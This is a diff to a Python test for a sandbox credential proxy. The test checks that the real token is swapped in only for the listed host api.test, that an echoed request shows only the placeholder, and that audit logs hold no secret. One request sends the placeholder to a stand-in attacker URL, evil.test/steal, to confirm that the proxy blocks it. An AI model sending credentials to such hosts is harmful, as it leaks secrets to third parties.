@@ -1,8 +1,10 @@
-"""inject = "proxy": the real value is added by the proxy, only for listed hosts.
+"""inject = "proxy": the real value is swapped in by the proxy, only for listed hosts.
 
-A local HTTPS server (test CA, TLS inspection on) sees the real header; the
-sandbox sees only the placeholder; a request carrying the placeholder to a
-host that is not listed never gets the value; no record holds the value.
+A local HTTPS server (test CA, TLS inspection on) sees the real header where
+the sandbox sent the placeholder, and no header where it sent none; the
+sandbox sees only the placeholder, even when the server echoes the request;
+a request carrying the placeholder to a host that is not listed never gets
+the value; no record holds the value.
 """
 
 from __future__ import annotations
@@ -27,13 +29,14 @@ print("PLACEHOLDER", ph)
 ctx = ssl.create_default_context()
 for url, auth in ((f"https://api.test:{PORT}/repos/x", None),
                   (f"https://api.test:{PORT}/repos/y", "Bearer " + ph),
-                  (f"https://evil.test:{PORT}/steal", "Bearer " + ph)):
+                  (f"https://evil.test:{PORT}/steal", "Bearer " + ph),
+                  (f"https://api.test:{PORT}/echo?chunked=5", "Bearer " + ph)):
     req = urllib.request.Request(url)
     if auth:
         req.add_header("Authorization", auth)
     try:
         r = urllib.request.urlopen(req, timeout=15, context=ctx)
-        print("STATUS", r.status)
+        print("STATUS", r.status, dict(r.headers), r.read().decode())
     except urllib.error.HTTPError as e:
         print("STATUS", e.code)
 """
@@ -66,7 +69,7 @@ def test_proxy_injects_only_for_listed_hosts(
                       {"host": "evil.test", "inspect_tls": True}],
         },
         "credentials": [{"name": "gh", "source": "env:GLASSROOM_TEST_GH_TOKEN",
-                         "inject": "proxy", "hosts": ["api.test"],
+                         "inject": "proxy", "hosts": [f"api.test:{server.port}"],
                          "header": "Authorization: Bearer {secret}"}],
     }  # fmt: skip
     net = NetworkOptions(resolver=HostsResolver({"api.test": "127.0.0.1", "evil.test": "127.0.0.1"}),
@@ -79,18 +82,23 @@ def test_proxy_injects_only_for_listed_hosts(
     assert res.exit_code == 0, res.stderr
     placeholder = res.stdout.split("PLACEHOLDER ", 1)[1].split()[0]
     assert placeholder.startswith("glsr-") and SECRET not in res.stdout + env
-    assert res.stdout.count("STATUS 200") == 3
+    assert res.stdout.count("STATUS 200") == 4
     seen = server.seen_headers[before:]
     auth = [h.get("Authorization", h.get("authorization")) for h in seen]
-    # Listed host: added when absent, swapped when the placeholder is sent.
-    assert auth[0] == f"Bearer {SECRET}" and auth[1] == f"Bearer {SECRET}"
+    # Listed host: nothing added when absent, swapped where the placeholder is sent.
+    assert auth[0] is None and auth[1] == f"Bearer {SECRET}" and auth[3] == f"Bearer {SECRET}"
     # Unlisted host: the placeholder goes out as-is, never the value.
     assert auth[2] == f"Bearer {placeholder}"
+    # The echo came back with the placeholder in place of the value.
+    assert f"Bearer {placeholder}" in res.stdout.rsplit("STATUS", 1)[1]
     text = log.read_text()
     assert SECRET not in text
     recs = [json.loads(x) for x in text.splitlines() if json.loads(x)["sandbox"] == sid]
     used = [r for r in recs if r["event"] == "credential.used"]
     assert [r["details"]["host"] for r in used] == ["api.test", "api.test"]
+    red = [r for r in recs if r["event"] == "credential.redacted"]
+    assert [(r["details"]["host"], r["details"]["count"], r["decision"], r["rule"])
+            for r in red] == [("api.test", 2, "deny", "credentials[0].inject")]  # fmt: skip
     blocked = [r for r in recs if r["event"] == "credential.placeholder_blocked"]
     assert blocked and blocked[0]["details"]["host"] == "evil.test"
     assert blocked[0]["decision"] == "deny" and blocked[0]["rule"] == "credentials[0].hosts"
